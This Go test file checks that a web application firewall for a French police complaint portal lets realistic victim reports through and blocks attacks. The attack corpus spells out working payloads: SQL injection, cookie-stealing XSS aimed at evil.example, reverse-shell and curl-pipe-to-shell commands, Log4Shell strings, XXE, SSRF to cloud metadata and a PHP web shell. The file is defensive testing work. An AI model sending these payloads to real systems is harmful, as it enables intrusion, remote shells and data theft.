package waf

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
)

// The shared firewall of the tests (compiling CRS takes about half a
// second): default settings, with verdicts sent to the test that asked.
var (
	sharedOnce sync.Once
	sharedFW   *Firewall
	sharedErr  error
	verdicts   sync.Map // request id → Verdict
)

func testFirewall(t testing.TB) *Firewall {
	t.Helper()
	sharedOnce.Do(func() {
		sharedFW, sharedErr = New(Config{OnVerdict: func(ctx context.Context, v Verdict) {
			if id := v.RequestID; id != "" {
				verdicts.Store(id, v)
			}
		}})
	})
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return sharedFW
}

// backend stands for Vigie: it reads the whole body and says ok.
var backend = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	if r.Body != nil {
		if _, err := io.Copy(io.Discard, r.Body); err != nil {
			http.Error(w, "body: "+err.Error(), http.StatusInternalServerError)
			return
		}
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	io.WriteString(w, "ok")
})

type req struct {
	name    string
	method  string
	target  string
	ctype   string
	body    []byte
	headers map[string]string
}

func form(vals ...string) []byte {
	v := url.Values{}
	for i := 0; i+1 < len(vals); i += 2 {
		v.Add(vals[i], vals[i+1])
	}
	return []byte(v.Encode())
}

func jsonBody(t testing.TB, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

type part struct {
	field, filename, ctype string
	data                   []byte
}

func multipartBody(t testing.TB, parts ...part) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for _, p := range parts {
		h := textproto.MIMEHeader{}
		if p.filename != "" {
			h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="%s"; filename="%s"`, p.field, p.filename))
			h.Set("Content-Type", p.ctype)
		} else {
			h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="%s"`, p.field))
		}
		w, err := mw.CreatePart(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(p.data)
	}
	mw.Close()
	return buf.Bytes(), mw.FormDataContentType()
}

func readFile(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

var reqSeq struct {
	sync.Mutex
	n int
}

// send runs one request through the firewall and returns the status and
// the verdict, if any.
func send(t testing.TB, h http.Handler, q req) (int, *Verdict, string) {
	t.Helper()
	var body io.Reader
	if q.body != nil {
		body = bytes.NewReader(q.body)
	}
	method := q.method
	if method == "" {
		method = http.MethodGet
		if q.body != nil {
			method = http.MethodPost
		}
	}
	r := httptest.NewRequest(method, q.target, body)
	r.Host = "localhost"
	r.RemoteAddr = "192.0.2.10:51000"
	r.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0")
	r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	r.Header.Set("Accept-Language", "fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3")
	if q.ctype != "" {
		r.Header.Set("Content-Type", q.ctype)
	}
	if q.body != nil {
		// As a real server sees it (httptest leaves the header out).
		r.Header.Set("Content-Length", fmt.Sprint(len(q.body)))
	}
	for k, v := range q.headers {
		r.Header.Set(k, v)
	}
	reqSeq.Lock()
	reqSeq.n++
	id := fmt.Sprintf("test-%d", reqSeq.n)
	reqSeq.Unlock()
	r = r.WithContext(withClient(r.Context(), "192.0.2.10", id))
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	var vp *Verdict
	if v, ok := verdicts.LoadAndDelete(id); ok {
		vv := v.(Verdict)
		vp = &vv
	}
	return w.Code, vp, w.Body.String()
}

func describe(v *Verdict) string {
	if v == nil {
		return "no verdict"
	}
	var b strings.Builder
	fmt.Fprintf(&b, "score %d:", v.Score)
	for _, h := range v.Rules {
		fmt.Fprintf(&b, " %d (%s: %q)", h.ID, h.Message, h.Data)
	}
	return b.String()
}

// Narratives as victims write them: quotes of every kind, apostrophes,
// URLs, amounts, IBANs, phone numbers, e-mails pasted whole.
const (
	narrativeRomance = `Bonjour, je m'appelle Martine D. et j'ai 67 ans. En mars dernier, j'ai rencontré sur Facebook un homme qui se présentait comme "Richard", ingénieur sur une plateforme pétrolière en mer du Nord. Il m'écrivait tous les jours des messages très gentils ("ma chérie", "mon cœur") et m'a dit qu'il voulait venir s'installer en France avec moi. Le 12/04 il m'a dit qu'il avait un problème de douane et qu'il lui fallait 4 500 € pour récupérer ses affaires ; j'ai fait un virement sur le compte FR76 3000 6000 0112 3456 7890 189 (BIC : AGRIFRPP882) au nom de "J. Okafor". Ensuite il m'a demandé des cartes PCS (3 x 250 €) et m'a envoyé le lien https://www.transcash.fr/verifier-ticket?code=XXXX&ref=5512 pour "vérifier" les codes. Quand j'ai refusé d'envoyer plus, il s'est fâché : 'tu ne m'aimes pas', 'tu vas le regretter'. Son numéro : +44 7700 900123, et un autre en France : 06 12 34 56 78. Je n'ai plus de nouvelles depuis le 2 mai. Total perdu : 5 250 €.`

	narrativePhishing = `J'ai reçu le SMS suivant le 03/10/2026 à 14h32 : « Ameli : votre carte Vitale arrive à expiration, renouvelez-la sur https://ameli-renouvellement.info/?id=FR-88321&m=1 avant le 05/10 ». J'ai cliqué et j'ai saisi mes coordonnées bancaires (carte se terminant par 4417). Le lendemain, 3 paiements ont été faits : 899,99 € chez "ELECTRO-DEPOT*WEB", 450 € et 1 200 €. Ma banque (Crédit Agricole) m'a dit de porter plainte. L'adresse du site était ameli-renouvellement[.]info et la page demandait aussi mon mot de passe Ameli ; j'ai mis le même que pour ma messagerie (oui, je sais...). Le numéro expéditeur était le 07 56 78 90 12.`

	scamEmail = `De : Service Client <securite@banque-populaire-verif.com>
Envoyé : lundi 14 septembre 2026 09:12
À : jean.dupont@orange.fr
Objet : [URGENT] Activité suspecte sur votre compte n°00012345678

Cher(e) client(e),

Nous avons détecté une connexion inhabituelle depuis l'appareil "iPhone 13" (IP : 185.220.101.4) le 13/09/2026 à 23:47.
Si vous n'êtes pas à l'origine de cette opération, veuillez confirmer votre identité sous 24h en cliquant sur le lien ci-dessous :

https://bp-securite-client.com/auth/login.php?token=a8f3e9c2&redirect=https%3A%2F%2Fwww.banquepopulaire.fr

Sans action de votre part, votre accès sera suspendu et une pénalité de 49,90 € sera appliquée (article L.133-19 du Code monétaire et financier).

Cordialement,
Le Service Sécurité – Banque Populaire
--
Ce message est confidentiel. Si vous l'avez reçu par erreur, merci de le supprimer.`

	narrativeTechSupport = `Un faux technicien "Microsoft" m'a appelé (01 84 88 00 00) en disant que mon ordinateur était infecté. Il m'a fait installer AnyDesk depuis https://anydesk.com/fr puis il a pris la main. Il a ouvert une fenêtre noire et tapé des commandes que je ne comprenais pas, il disait que c'était pour "nettoyer le registre". Ensuite il m'a fait payer 399 € par carte pour un "contrat de maintenance" sur le site www.pc-assistance-france.net. Après j'ai vu que 2 000 € étaient partis de mon compte vers un compte en Lituanie (LT12 1000 0111 0100 1000).`

	narrativeCommands = `Le faux technicien m'a demandé d'appuyer sur Windows + R et de taper :
cmd
puis dans la fenêtre noire :
ping 8.8.8.8 -t
et ensuite "netstat -an" ; il disait que les lignes "ESTABLISHED" étaient des pirates. Après il a tapé lui-même des choses comme "powershell -ExecutionPolicy Bypass" et "rm -rf" (je crois), puis il m'a envoyé le lien https://support-windows-fr.com/install.exe?id=4471&ref=call ; j'ai payé 299 € avec ma carte.`

	narrativeScript = `Sur le site https://colis-suivi-poste.com, la page affichait un message du genre <script>window.location="https://paiement-colis.net"</script> (c'est ce que mon fils a vu dans le code source) et demandait 1,99 € de frais de réexpédition. Le SMS venait du +33 7 56 12 34 90 : "Votre colis est en attente, réglez les frais : https://bit.ly/3xYz".`

	narrativeMarketplace = `J'ai vendu un canapé sur Leboncoin (annonce n° 2659874123, 350 €). L'acheteur "Sandrine_Leroy75" m'a écrit : "je vous paie par le service de paiement sécurisé, cliquez ici pour recevoir l'argent : http://leboncoin.securise-paiement.fr/receive?amount=350&id=88" ; le site m'a demandé mon numéro de carte, la date d'expiration & le cryptogramme (3 chiffres au dos). Résultat : -1 350,00 € le 21/06. Elle m'avait aussi dit "n'oubliez pas d'entrer le code reçu par SMS, c'est normal", ce que j'ai fait. Voici son adresse mail : sandrine.leroy75@gmail.com. Elle prétendait habiter au 12, rue de l'Église à Bordeaux (33000).`
)

func legitimateCorpus(t testing.TB) []req {
	t.Helper()
	pdf, jpg := readFile(t, "releve.pdf"), readFile(t, "capture.jpg")
	upload, uploadCT := multipartBody(t,
		part{field: "description", data: []byte("Relevé bancaire d'avril (virements au \"conseiller\") et capture d'écran du SMS reçu")},
		part{field: "file", filename: "relevé avril 2026.pdf", ctype: "application/pdf", data: pdf},
		part{field: "file", filename: "Capture d’écran 2026-04-12 à 14.32.jpg", ctype: "image/jpeg", data: jpg},
	)
	complaintForm, complaintFormCT := multipartBody(t,
		part{field: "narrative", data: []byte(narrativePhishing)},
		part{field: "scam_message", data: []byte(scamEmail)},
		part{field: "website", data: []byte("https://bp-securite-client.com/auth/login.php?token=a8f3e9c2")},
		part{field: "file", filename: "sms.jpg", ctype: "image/jpeg", data: jpg},
	)
	long := strings.TrimSuffix(truncate(strings.Repeat(narrativeRomance+"\n\n", 14), 10240), "…")
	draft, draftCT := multipartBody(t,
		part{field: "category", data: []byte("escroquerie")},
		part{field: "narrative", data: []byte(narrativeCommands)},
		part{field: "item.description", data: []byte(`Ordinateur portable "HP" ; le technicien y a installé <AnyDesk> et lancé "cmd /c del *.log"`)},
		part{field: "website", data: []byte("https://support-windows-fr.com/install.exe?id=4471&ref=call")},
		part{field: "pay.iban", data: []byte("FR76 3000 6000 0112 3456 7890 189")},
		part{field: "file", filename: "facture.pdf", ctype: "application/pdf", data: pdf},
	)
	return []req{
		{name: "home page", target: "/"},
		{name: "static asset", target: "/static/dsfr/dsfr.min.css"},
		{name: "complaint list with 3 args", target: "/complaints?status=open&page=2&q=arnaque+au+faux+conseiller"},
		{name: "search with quotes and apostrophe", target: "/complaints?q=" + url.QueryEscape(`"faux conseiller" l'arnaque`) + "&dept=2A&sort=-created"},
		{name: "search by e-mail with a +tag", target: "/complaints?q=" + url.QueryEscape("jean+or@orange.fr") + "&status=open&page=1"},
		{name: "journal search", target: "/audit?subject=complaint%3A42&from=2026-01-01&to=2026-11-30&reason=enquete"},
		{name: "sign-in with symbol password", ctype: "application/x-www-form-urlencoded", target: "/login",
			body: form("login", "agent", "password", `P@ss'w0rd"; --<>!&|$(x)`, "next", "/complaints?status=open")},
		{name: "sign-in with another password", ctype: "application/x-www-form-urlencoded", target: "/login",
			body: form("login", "commandant", "password", `Vigie-Demo-2026`)},
		{name: "password change with SQL-looking password", ctype: "application/x-www-form-urlencoded", target: "/account/password",
			body: form("current_password", `1' or 1=1`, "new_password", `a' OR 'x'='x`, "confirm_password", `a' OR 'x'='x`)},
		{name: "complaint form, romance scam", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("kind", "escroquerie", "narrative", narrativeRomance, "amount", "5250", "iban", "FR76 3000 6000 0112 3456 7890 189",
				"phone", "+44 7700 900123", "website", "https://www.transcash.fr/verifier-ticket?code=XXXX&ref=5512")},
		{name: "complaint form, phishing with pasted e-mail", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("kind", "hameconnage", "narrative", narrativePhishing, "scam_message", scamEmail,
				"website", "https://ameli-renouvellement.info/?id=FR-88321&m=1", "email", "jean.dupont@orange.fr", "phone", "07 56 78 90 12")},
		{name: "complaint form, tech support", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("narrative", narrativeTechSupport, "website", "www.pc-assistance-france.net", "iban", "LT12 1000 0111 0100 1000", "amount", "2399")},
		{name: "complaint form, marketplace", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("narrative", narrativeMarketplace, "description", "Vente de canapé, paiement \"sécurisé\" frauduleux", "website", "http://leboncoin.securise-paiement.fr/receive?amount=350&id=88")},
		{name: "complaint form, tech support with commands", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("narrative", narrativeCommands, "website", "https://support-windows-fr.com/install.exe?id=4471&ref=call", "amount", "299")},
		{name: "API complaint, tech support with commands", ctype: "application/json", target: "/api/v1/complaints",
			body: jsonBody(t, map[string]any{"narrative": narrativeCommands, "scam_message": "Tapez cmd puis: ping 8.8.8.8 -t | find \"TTL\""})},
		{name: "complaint form, quoted script tag", ctype: "application/x-www-form-urlencoded", target: "/complaints/new",
			body: form("narrative", narrativeScript, "scam_message", narrativeScript)},
		{name: "complaint draft step (multipart), tech support with commands", ctype: draftCT, target: "/complaint-drafts/12/facts", body: draft},
		{name: "reply to an agent quoting a script", ctype: "application/x-www-form-urlencoded", target: "/complaints/42/reply",
			body: form("text", narrativeScript)},
		{name: "agent action API with a quoted command", ctype: "application/json", target: "/api/v1/complaints/42/actions",
			body: jsonBody(t, map[string]any{"action": "message", "text": "Merci. Pour info, il vous a fait taper \"powershell -ExecutionPolicy Bypass\" puis \"ping 8.8.8.8 -t\" ; ne le refaites pas."})},
		{name: "complaint edit", ctype: "application/x-www-form-urlencoded", target: "/complaints/42/edit",
			body: form("narrative", narrativeMarketplace+"\nAjout du 23/06 : elle m'a recontacté depuis le 06-98-76-54-32.", "csrf", "x")},
		{name: "multipart complaint with e-mail and photo", ctype: complaintFormCT, target: "/complaints/new", body: complaintForm},
		{name: "upload PDF and JPEG", ctype: uploadCT, target: "/complaints/42/attachments", body: upload},
		{name: "API complaint JSON", ctype: "application/json", target: "/api/v1/complaints",
			body: jsonBody(t, map[string]any{"kind": "escroquerie", "narrative": narrativeRomance, "scam_message": scamEmail,
				"website": "https://bp-securite-client.com/auth/login.php?token=a8f3e9c2", "amount_cents": 525000,
				"victim": map[string]any{"name": "Martine D'Almeida", "phone": "+33 6 12 34 56 78", "iban": "FR7630006000011234567890189"}})},
		{name: "API complaint JSON, 10 KB narrative", ctype: "application/json", target: "/api/v1/complaints",
			body: jsonBody(t, map[string]any{"narrative": long})},
		{name: "API list", target: "/api/v1/complaints?dept=33&status=open&limit=50", headers: map[string]string{"Authorization": "Bearer vg_2f8a9c1d4e5b6a7c8d9e0f1a2b3c4d5e", "Accept": "application/json"}},
		{name: "API update", method: http.MethodPatch, ctype: "application/json", target: "/api/v1/complaints/42",
			body: jsonBody(t, map[string]any{"status": "accepted", "note": "Plainte reçue ; l'OPJ l'a requalifiée en \"escroquerie en bande organisée\"."})},
		{name: "API delete", method: http.MethodDelete, target: "/api/v1/complaints/42/attachments/7"},
		{name: "unit admin form", ctype: "application/x-www-form-urlencoded", target: "/admin/org/33",
			body: form("name", "Brigade de Saint-Médard-en-Jalles", "kind", "brigade", "parent", "12")},
		{name: "language switch", ctype: "application/x-www-form-urlencoded", target: "/lang", body: form("lang", "en", "next", "/complaints?status=open&page=2")},
		{name: "motif for journal", ctype: "application/x-www-form-urlencoded", target: "/admin/users/7",
			body: form("reason", "enquete", "motif", "Vérification demandée par l'OPJ (PV n° 2026/0042) – usurpation d'identité")},
	}
}

func TestLegitimateTrafficPasses(t *testing.T) {
	h := testFirewall(t).Middleware(backend)
	for _, q := range legitimateCorpus(t) {
		t.Run(q.name, func(t *testing.T) {
			code, v, _ := send(t, h, q)
			if code != http.StatusOK {
				t.Errorf("status %d, want 200; %s", code, describe(v))
			}
		})
	}
}

func attackCorpus(t testing.TB) []req {
	t.Helper()
	pdf := readFile(t, "releve.pdf")
	mp := func(field, value string) ([]byte, string) {
		return multipartBody(t, part{field: field, data: []byte(value)}, part{field: "file", filename: "releve.pdf", ctype: "application/pdf", data: pdf})
	}
	mpSQLi, mpSQLiCT := mp("description", "x' UNION SELECT login, password_hash FROM users--")
	mpXSS, mpXSSCT := mp("kind", `<script>document.location='https://evil.example/?c='+document.cookie</script>`)
	mpFile, mpFileCT := multipartBody(t, part{field: "file", filename: "shell.php", ctype: "application/x-php", data: []byte(`<?php system($_GET["c"]); ?>`)})
	formCT := "application/x-www-form-urlencoded"
	q := url.QueryEscape
	return []req{
		// SQL injection
		{name: "SQLi in query", target: "/complaints?status=open&page=" + q("2 UNION SELECT login,password_hash FROM users--")},
		{name: "SQLi tautology in query", target: "/complaints?id=" + q("1' OR '1'='1' -- ")},
		{name: "SQLi in form field", ctype: formCT, target: "/login", body: form("login", "admin'--", "password", "x")},
		{name: "SQLi stacked in body", ctype: formCT, target: "/admin/org/units", body: form("name", "x'; DROP TABLE complaints; --")},
		{name: "SQLi in narrative", ctype: formCT, target: "/complaints/new", body: form("narrative", "1' UNION ALL SELECT NULL,NULL,concat(login,0x3a,password_hash) FROM users-- -")},
		{name: "SQLi in JSON", ctype: "application/json", target: "/api/v1/complaints", body: []byte(`{"narrative":"ok","amount_cents":"1 OR 1=1; SELECT pg_sleep(10)--"}`)},
		{name: "SQLi in cookie", target: "/complaints", headers: map[string]string{"Cookie": "lang=fr' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- "}},
		{name: "SQLi in multipart", ctype: mpSQLiCT, target: "/complaints/42/attachments", body: mpSQLi},
		// Cross-site scripting
		{name: "XSS in query", target: "/complaints?q=" + q(`<script>alert(document.cookie)</script>`)},
		{name: "XSS event handler in form", ctype: formCT, target: "/complaints/new", body: form("website", `<img src=x onerror=alert(1)>`)},
		{name: "XSS in a unit name", ctype: formCT, target: "/admin/org/units", body: form("name", `Bonjour <svg/onload=fetch('//evil.example/'+document.cookie)>`)},
		{name: "XSS javascript URL in website", ctype: formCT, target: "/complaints/new", body: form("website", `javascript:alert(document.domain)`)},
		{name: "XSS in JSON", ctype: "application/json", target: "/api/v1/complaints", body: []byte(`{"kind":"<iframe src=\"javascript:alert(1)\"></iframe>"}`)},
		{name: "XSS in Referer", target: "/", headers: map[string]string{"Referer": `https://x.example/"><script>alert(1)</script>`}},
		{name: "XSS in multipart", ctype: mpXSSCT, target: "/complaints/new", body: mpXSS},
		// Path traversal, local files
		{name: "path traversal in query", target: "/complaints/export?file=" + q("../../../../etc/passwd")},
		{name: "encoded path traversal in path", target: "/static/..%2f..%2f..%2fetc%2fpasswd"},
		{name: "path traversal in JSON", ctype: "application/json", target: "/api/v1/complaints/42/attachments", body: []byte(`{"path":"../../../../../../etc/shadow"}`)},
		{name: "dot file", target: "/.env"},
		// Command injection
		{name: "command injection in query", target: "/api/v1/route?address=" + q("1 rue de la Paix; cat /etc/passwd")},
		{name: "command injection in form", ctype: formCT, target: "/admin/org/units", body: form("name", "x | nc -e /bin/sh 203.0.113.7 4444")},
		{name: "command substitution in JSON", ctype: "application/json", target: "/api/v1/units", body: []byte(`{"name":"$(curl -s http://203.0.113.7/x.sh | sh)"}`)},
		{name: "windows command in query", target: "/complaints?q=" + q("x & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")},
		// Server-side request forgery
		{name: "SSRF cloud metadata in website", ctype: formCT, target: "/complaints/new", body: form("website", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")},
		{name: "SSRF metadata in JSON", ctype: "application/json", target: "/api/v1/complaints", body: []byte(`{"website":"http://metadata.google.internal/computeMetadata/v1/"}`)},
		{name: "SSRF file scheme in query", target: "/preview?url=" + q("file:///etc/passwd")},
		// XML external entities
		{name: "XXE in XML body", ctype: "application/xml", target: "/api/v1/complaints", body: []byte(`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><complaint><narrative>&xxe;</narrative></complaint>`)},
		{name: "XXE parameter entity", ctype: "text/xml", target: "/api/v1/complaints", body: []byte(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % r SYSTEM "http://203.0.113.7/x.dtd"> %r;]><d/>`)},
		// Log4Shell-style
		{name: "log4shell in User-Agent", target: "/", headers: map[string]string{"User-Agent": "${jndi:ldap://203.0.113.7:1389/a}"}},
		{name: "log4shell obfuscated in query", target: "/complaints?q=" + q("${${lower:j}ndi:${lower:l}dap://203.0.113.7/x}")},
		{name: "log4shell in JSON", ctype: "application/json", target: "/api/v1/complaints", body: []byte(`{"narrative":"${jndi:rmi://203.0.113.7/Exploit}"}`)},
		{name: "log4shell in narrative form", ctype: formCT, target: "/complaints/new", body: form("narrative", "${jndi:dns://203.0.113.7/a}")},
		// Other
		{name: "PHP code in form", ctype: formCT, target: "/complaints/new", body: form("email", `<?php system($_GET['c']); ?>`)},
		{name: "PHP upload", ctype: mpFileCT, target: "/complaints/42/attachments", body: mpFile},
		{name: "Java deserialisation", ctype: formCT, target: "/complaints/new", body: form("description", "java.lang.Runtime.getRuntime().exec(\"id\")")},
		{name: "scanner user agent", target: "/", headers: map[string]string{"User-Agent": "sqlmap/1.8.4#stable (https://sqlmap.org)"}},
	}
}

func TestAttacksAreBlocked(t *testing.T) {
	h := testFirewall(t).Middleware(backend)
	for _, q := range attackCorpus(t) {
		t.Run(q.name, func(t *testing.T) {
			code, v, _ := send(t, h, q)
			if code != http.StatusForbidden {
				t.Errorf("status %d, want 403; %s", code, describe(v))
			}
		})
	}
}
